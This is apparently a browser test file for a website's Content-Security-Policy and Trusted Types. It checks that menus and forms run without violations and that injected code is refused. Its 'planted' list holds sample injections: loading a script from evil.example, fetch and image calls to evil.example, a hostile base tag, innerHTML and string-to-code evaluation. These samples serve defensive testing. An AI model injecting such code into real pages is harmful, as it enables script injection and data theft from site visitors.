// The Content-Security-Policy and Trusted Types in a browser: they allow everything that the site does, and refuse what
// injected code would do.
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { site } from '../../src/content/site'
import { follow, giveBack, openBrowser, settled, until, type Visit } from '../support/browser'
import { complaints, openAll } from '../support/policy'
import { sentences } from '../support/sentences'
import { allPages } from '../support/site'
import { visitor } from '../support/visitor'

const browser = await openBrowser()
test.after(browser.close)

/** A page with a scroll guide, one with the form, one of services, and the 404 page. */
const MENUS = ['/', '/contact', '/services/training', '/404']

async function closing(visit: Visit): Promise<string[]> {
  await giveBack(visit.page)
  return complaints(visit)
}

// The menus are the same on every page; that no page is refused anything while it is loaded is a claim of browser/walk,
// and that none is under the policy of the 404 page one of browser/navigation.
for (const { path, site } of allPages.filter(({ path }) => MENUS.includes(path))) {
  const dropdowns = site.navigation.filter(item => 'items' in item)

  test(`${path} does nothing that its policy refuses, with every menu opened, wide and narrow`, async () => {
    const visit = await browser.visit(path)
    for (const width of [1280, 390]) {
      await visit.page.setViewport({ width, height: 800 })
      assert.is((await openAll(visit.page)) > 0, dropdowns.length > 0, `what opens at ${width} px`)
    }
    assert.equal(await closing(visit), [])
  })
}

test('the contact form is sent under the policy', async () => {
  const visit = await browser.visit('/contact')
  const { page } = visit
  for (const [name, value] of Object.entries(visitor)) await page.type(`main form [name=${name}]`, value)
  await page.click('main form button')
  await until(
    page,
    `document.querySelector('main form [role=status]').textContent === ${JSON.stringify(sentences.sent)}`,
  )
  assert.equal(await closing(visit), [])
})

test('the subscribe box is sent under the policy', async () => {
  const visit = await browser.visit('/about')
  const { page } = visit
  await page.type('footer form [name=email]', visitor.email)
  await page.click('footer form button')
  const { success } = site.subscribe
  await until(page, `document.querySelector('footer form [role=status]').textContent === ${JSON.stringify(success)}`)
  assert.equal(await closing(visit), [])
})

const planted: [what: string, directive: string, code: string][] = [
  ['a style attribute', 'style-src-attr', `document.body.setAttribute('style', 'color: red')`],
  [
    'a style element',
    'style-src-elem',
    `document.head.append(Object.assign(document.createElement('style'), { textContent: 'p{}' }))`,
  ],
  [
    'an inline handler',
    'script-src-attr|require-trusted-types-for',
    `try { document.body.setAttribute('onclick', 'stop()'); document.body.click() } catch {}`,
  ],
  ['a script of another site', 'script-src-elem', `import('https://evil.example/a.js').catch(() => {})`],
  ['a picture of another site', 'img-src', `new Image().src = 'https://evil.example/a.png'`],
  ['a picture in a data: URL', 'img-src', `new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='`],
  ['a call to another site', 'connect-src', `fetch('https://evil.example/').catch(() => {})`],
  [
    'another base',
    'base-uri',
    `document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))`,
  ],
  ['a frame', 'frame-src', `document.body.append(Object.assign(document.createElement('iframe'), { src: '/about' }))`],
  ['markup from a string', 'require-trusted-types-for', `try { document.body.innerHTML = '<p>' } catch {}`],
  ['code from a string', 'script-src|require-trusted-types-for', `setTimeout(() => Function('return 1')())`],
  ['a policy that makes strings trusted', 'trusted-types', `try { trustedTypes.createPolicy('x', {}) } catch {}`],
]

const { page: victim, faults: heard } = await browser.visit('/about')

for (const [what, directive, code] of planted) {
  test(`${what} is refused, and the listener of these tests hears of it`, async () => {
    heard.length = 0
    await victim.evaluate(code)
    const isHeard = () => heard.some(fault => new RegExp(`^Policy violation: (${directive}) `).test(fault))
    for (let i = 0; i < 40 && !isHeard(); i += 1) await new Promise(resolve => setTimeout(resolve, 50))
    assert.ok(isHeard(), heard.join('\n'))
  })
}

test('a page of another site cannot frame a page', async () => {
  const stranger = createServer((_request, response) =>
    response.setHeader('Content-Type', 'text/html').end(`<iframe src="${browser.url}/about"></iframe>`),
  )
  await new Promise<void>(resolve => stranger.listen(0, '127.0.0.1', resolve))
  const { page } = await browser.visit('/about')
  const heading = await page.$eval('h1', ({ textContent }) => textContent)
  await page.goto(`http://localhost:${(stranger.address() as AddressInfo).port}`, { waitUntil: 'networkidle0' })
  const framed = await page.frames()[1]?.evaluate(() => document.querySelector('h1')?.textContent)
  await giveBack(page)
  await new Promise(resolve => stranger.close(resolve))
  assert.is.not(framed, heading)
})

test('every script is loaded once, and those of other pages when they are wanted', async () => {
  const { page, requests } = await browser.visit('/about', { prefetch: true })
  for (const path of ['/services/training', '/contact']) {
    await follow(page, path)
    await settled(page)
  }
  await giveBack(page)
  const scripts = requests.filter(url => url.endsWith('.js'))
  assert.ok(scripts.length > 4)
  assert.is(new Set(scripts).size, scripts.length)
})

test.run()
